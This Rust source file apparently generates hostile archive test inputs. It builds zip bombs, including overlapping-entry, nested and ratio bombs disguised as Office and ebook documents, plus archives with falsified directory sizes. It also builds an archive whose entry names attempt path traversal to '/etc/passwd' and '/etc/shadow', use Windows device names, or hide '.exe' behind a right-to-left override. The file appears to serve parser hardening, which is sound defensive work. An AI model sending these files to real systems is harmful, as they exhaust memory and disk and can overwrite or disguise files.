//! Zip archives and what is packed in them.

use std::io::{Cursor, Write};

use zip::write::SimpleFileOptions;

use crate::bombs::{Bomb, Made, Scale};
use crate::made::{deflated, package};

pub fn all() -> Vec<Bomb> {
    vec![
        Bomb {
            name: "overlap.zip",
            make: |_| overlapping(&["a"], 250, 21_841_249).into(),
        },
        Bomb {
            name: "overlap-large.zip",
            make: overlap_large,
        },
        Bomb {
            name: "overlap.docx",
            make: |_| overlapping(&["word/document.xml"], 250, 4 << 20).into(),
        },
        Bomb {
            name: "overlap.xlsx",
            make: |_| overlapping(&["xl/workbook.xml"], 250, 4 << 20).into(),
        },
        Bomb {
            name: "overlap.pptx",
            make: |_| overlapping(&["ppt/presentation.xml"], 250, 4 << 20).into(),
        },
        Bomb {
            name: "overlap.epub",
            make: |_| overlapping(&["META-INF/container.xml"], 250, 4 << 20).into(),
        },
        Bomb {
            name: "overlap.odt",
            make: |_| overlapping(&["mimetype", "content.xml"], 250, 4 << 20).into(),
        },
        Bomb {
            name: "one-for-all.zip",
            make: |_| one_for_all().into(),
        },
        Bomb {
            name: "nested.zip",
            make: |scale| nested(scale).into(),
        },
        Bomb {
            name: "entries.zip",
            make: |_| many_entries().into(),
        },
        Bomb {
            name: "megabytes.docx",
            make: |_| megabytes().into(),
        },
        Bomb {
            name: "lies.xlsx",
            make: |_| lies().into(),
        },
        Bomb {
            name: "beyond.zip",
            make: |_| beyond().into(),
        },
        Bomb {
            name: "ratio.docx",
            make: |scale| ratio("word/document.xml", scale),
        },
        Bomb {
            name: "ratio.xlsx",
            make: |scale| ratio("xl/workbook.xml", scale),
        },
        Bomb {
            name: "ratio.pptx",
            make: |scale| ratio("ppt/presentation.xml", scale),
        },
        Bomb {
            name: "ratio.epub",
            make: |scale| ratio("META-INF/container.xml", scale),
        },
        Bomb {
            name: "ratio.odt",
            make: |scale| ratio("mimetype", scale),
        },
        Bomb {
            name: "traversal.zip",
            make: |_| traversal().into(),
        },
    ]
}

/// David Fifield's construction (2019): every entry's data begins by quoting the local headers of those after
/// it in stored blocks, and all end in one kernel of zeros. Checksums are not filled in: nobody gets so far.
fn overlapping(names: &[&str], count: usize, kernel: usize) -> Vec<u8> {
    let packed = deflated(&mut std::io::repeat(b' '), kernel as u64);
    let name = |number: usize| {
        names
            .get(number)
            .map_or(format!("{number}"), |name| (*name).to_owned())
    };
    // From the last entry to the first, because each one's size is known only when the next one's is.
    let mut tail = packed;
    let mut size = kernel as u64;
    let mut entries = Vec::new();
    for number in (0..count).rev() {
        let name = name(number);
        let header = local_header(&name, tail.len() as u32, size as u32);
        entries.push((name, tail.len() as u32, size as u32, header.len()));
        let mut quoted = Vec::with_capacity(tail.len() + header.len() + 5);
        if number > 0 {
            let length = header.len() as u16;
            quoted.push(0);
            quoted.extend(length.to_le_bytes());
            quoted.extend((!length).to_le_bytes());
            size += header.len() as u64;
        }
        quoted.extend(header);
        quoted.extend(&tail);
        tail = quoted;
    }
    entries.reverse();
    let mut file = tail;
    let start = file.len();
    let mut place = 0;
    for (name, packed, size, header) in &entries {
        file.extend(directory_entry(name, *packed, *size, place));
        // The next header lies behind this one and the five bytes of the stored block.
        place += (header + 5) as u32;
    }
    let length = file.len() - start;
    file.extend(end(entries.len() as u16, length as u32, start as u32));
    file
}

fn overlap_large(scale: Scale) -> Made {
    // 65,534 entries of 4 GiB each are 281 TB. Short: as many entries, a small kernel.
    overlapping(
        &["a"],
        scale.pick(10_001, 12_000),
        scale.pick(1 << 20, 256 << 20),
    )
    .into()
}

fn local_header(name: &str, packed: u32, size: u32) -> Vec<u8> {
    let mut header = b"PK\x03\x04\x14\0\0\0\x08\0\0\0\0\0\0\0\0\0".to_vec();
    header.extend(packed.to_le_bytes());
    header.extend(size.to_le_bytes());
    header.extend((name.len() as u16).to_le_bytes());
    header.extend([0, 0]);
    header.extend(name.bytes());
    header
}

fn directory_entry(name: &str, packed: u32, size: u32, place: u32) -> Vec<u8> {
    let mut entry = b"PK\x01\x02\x14\0\x14\0\0\0\x08\0\0\0\0\0\0\0\0\0".to_vec();
    entry.extend(packed.to_le_bytes());
    entry.extend(size.to_le_bytes());
    entry.extend((name.len() as u16).to_le_bytes());
    entry.extend([0; 12]);
    entry.extend(place.to_le_bytes());
    entry.extend(name.bytes());
    entry
}

fn end(count: u16, length: u32, start: u32) -> Vec<u8> {
    let mut end = b"PK\x05\x06\0\0\0\0".to_vec();
    end.extend(count.to_le_bytes());
    end.extend(count.to_le_bytes());
    end.extend(length.to_le_bytes());
    end.extend(start.to_le_bytes());
    end.extend([0, 0]);
    end
}

/// Every entry of the directory points at the same data.
fn one_for_all() -> Vec<u8> {
    let size = 64 << 20;
    let packed = deflated(&mut std::io::repeat(0), size);
    let mut file = local_header("a", packed.len() as u32, size as u32);
    file.extend(&packed);
    let start = file.len();
    for number in 0..1_000 {
        file.extend(directory_entry(
            &number.to_string(),
            packed.len() as u32,
            size as u32,
            0,
        ));
    }
    let length = file.len() - start;
    file.extend(end(1_000, length as u32, start as u32));
    file
}

/// Archives in archives in archives, with a file of zeros in each of the innermost ones.
fn nested(scale: Scale) -> Vec<u8> {
    let size = scale.pick(64 << 20, 4 << 30) as u64;
    let mut inner = {
        let packed = deflated(&mut std::io::repeat(0), size);
        let mut file = local_header(
            "0.dll",
            packed.len() as u32,
            size.min(u64::from(u32::MAX)) as u32,
        );
        let start = file.len() + packed.len();
        file.extend(&packed);
        let entry = directory_entry(
            "0.dll",
            packed.len() as u32,
            size.min(u64::from(u32::MAX)) as u32,
            0,
        );
        file.extend(&entry);
        file.extend(end(1, entry.len() as u32, start as u32));
        file
    };
    for level in 0..5 {
        let names: Vec<String> = (0..16)
            .map(|number| format!("{level}-{number}.zip"))
            .collect();
        let parts: Vec<(&str, &[u8])> = names
            .iter()
            .map(|name| (name.as_str(), inner.as_slice()))
            .collect();
        inner = package(&parts);
    }
    inner
}

fn many_entries() -> Vec<u8> {
    let mut zip = zip::ZipWriter::new(Cursor::new(Vec::new()));
    for number in 0..10_001 {
        zip.start_file(format!("{number}"), SimpleFileOptions::default())
            .unwrap();
    }
    zip.finish().unwrap().into_inner()
}

/// Each part is below the size from which its ratio counts; together they are too large.
fn megabytes() -> Vec<u8> {
    let part = vec![b' '; 1 << 20];
    let names: Vec<String> = (0..600)
        .map(|number| format!("word/{number}.xml"))
        .collect();
    let mut parts: Vec<(&str, &[u8])> = names
        .iter()
        .map(|name| (name.as_str(), part.as_slice()))
        .collect();
    parts.push(("word/document.xml", b"<w:document/>"));
    package(&parts)
}

/// Sizes in the directory are far below what comes out.
fn lies() -> Vec<u8> {
    let spaces = vec![b' '; 64 << 20];
    let mut file = package(&[
        ("xl/workbook.xml", b"<workbook/>"),
        ("xl/sharedStrings.xml", &spaces),
    ]);
    let size = (64_u32 << 20).to_le_bytes();
    while let Some(at) = file.windows(4).position(|window| window == size) {
        file[at..at + 4].copy_from_slice(&1000_u32.to_le_bytes());
    }
    file
}

/// The directory claims to lie at the end of the world, with 65,535 entries.
fn beyond() -> Vec<u8> {
    let mut file = local_header("a", 5, 5);
    file.extend(b"hello");
    file.extend(end(u16::MAX, u32::MAX - 1, u32::MAX - 1));
    file
}

fn ratio(name: &str, scale: Scale) -> Made {
    let size = scale.pick(64 << 20, 1 << 30) as u64;
    let packed = deflated(&mut std::io::repeat(b' '), size);
    let mut file = local_header(name, packed.len() as u32, size as u32);
    file.extend(&packed);
    let start = file.len();
    let entry = directory_entry(name, packed.len() as u32, size as u32, 0);
    file.extend(&entry);
    file.extend(end(1, entry.len() as u32, start as u32));
    file.into()
}

/// Names that lead out, devices of Windows, a stream beside a file, a name of 60 kB, and a link.
fn traversal() -> Vec<u8> {
    let long = "n".repeat(60_000);
    let names = [
        "../../../../etc/passwd.txt",
        "/etc/shadow.txt",
        r"..\..\windows\win.ini.txt",
        "C:/x.txt",
        "con.txt",
        "nul",
        "a.txt::$DATA",
        "a\u{202e}txt.exe",
        "....//....//x.txt",
        "%2e%2e%2fx.txt",
        "./.././x.txt",
        "a\0b.txt",
        &long,
    ];
    let mut zip = zip::ZipWriter::new(Cursor::new(Vec::new()));
    for name in names {
        zip.start_file(name, SimpleFileOptions::default()).unwrap();
        zip.write_all(b"Kept where it is.").unwrap();
    }
    zip.finish().unwrap().into_inner()
}
